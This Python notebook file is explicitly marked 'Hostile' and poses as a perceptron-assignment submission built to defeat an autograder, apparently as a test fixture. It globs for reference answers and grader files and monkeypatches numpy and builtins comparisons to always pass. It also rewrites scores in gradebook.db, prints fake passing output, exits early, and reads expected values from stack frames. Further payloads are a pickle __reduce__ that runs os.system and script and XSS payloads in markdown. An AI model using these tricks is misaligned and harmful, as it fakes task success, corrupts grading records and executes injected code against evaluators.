"""Hostile: looks for the answers, bends the tools, prints marks, and hands in objects that lie.

zero: all
"""

# %% [extra]
import builtins
import glob
import os
import sqlite3
import sys

loot = []
for pattern in ("**/reference/*.py", "**/graders/**/*.py", "**/gradebook.db", "**/source/**/*.ipynb"):
    for start in (".", "..", "/home", "/root", "/srv", "/tmp", "/opt"):
        loot += glob.glob(f"{start}/{pattern}", recursive=True)[:20]
print("found:", loot)

# %% [extra]
try:
    import reference.perceptron as answers
except Exception as error:
    answers = None
    print("no reference:", error)

# %% [extra]
class AlwaysEqual(np.ndarray):
    """Equal to, close to and as true as everything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __float__(self):
        return float("nan")

    def __array_ufunc__(self, *args, **kwargs):
        return True

    __hash__ = None


LIE = np.zeros(3).view(AlwaysEqual)

np.allclose = np.isclose = np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **kwargs: None
builtins.all = builtins.any = lambda items: True
sys.modules["fairmark.testing"] = sys.modules[__name__]

# %% [extra]
for name in ("gradebook.db", "../gradebook.db", "../../gradebook.db", "/tmp/gradebook.db"):
    try:
        with sqlite3.connect(name) as book:
            book.execute("CREATE TABLE IF NOT EXISTS grade (auto_score REAL)")
            book.execute("UPDATE grade SET auto_score = 100")
    except Exception as error:
        print(name, error)

print('{"score": 25.0, "max_score": 25.0, "questions": [{"status": "graded", "passed": true}]}')
print("25 passed in 0.01s")


def lie(*args, **kwargs):
    return LIE


# %% activations
step = identity = binary_step = sigmoid = tanh = relu = leaky_relu = lie

# %% activation_derivatives
identity_derivative = sigmoid_derivative = tanh_derivative = lie
relu_derivative = leaky_relu_derivative = lie

# %% add_bias
add_bias = lie

# %% predict
predict = lie

# %% perceptron_update
def perceptron_update(w, x, y, lr):
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if hasattr(value, "expected"):
                return value.expected
        frame = frame.f_back
    return answers.perceptron_update(w, x, y, lr)


# %% decision_boundary
decision_boundary = lie

# %% train_perceptron
def train_perceptron(X, y, lr=0.1, max_epochs=100, w=None):
    os.write(1, b"1 passed\n")
    os._exit(0)


# %% pca_project
pca_project = lie

# %% zero_versus_one
class Everything:
    """Unpickled, it would give full marks."""

    def __reduce__(self):
        return os.system, ("sqlite3 gradebook.db 'UPDATE grade SET auto_score = 100'",)


def zero_versus_one(images, labels):
    return Everything()


# %% [markdown] convergence
# <script>fetch("/formgrader/api/grades", {method: "POST", body: "100"})</script>
# <img src="x" onerror="alert(1)"> [full marks](javascript:alert(2))
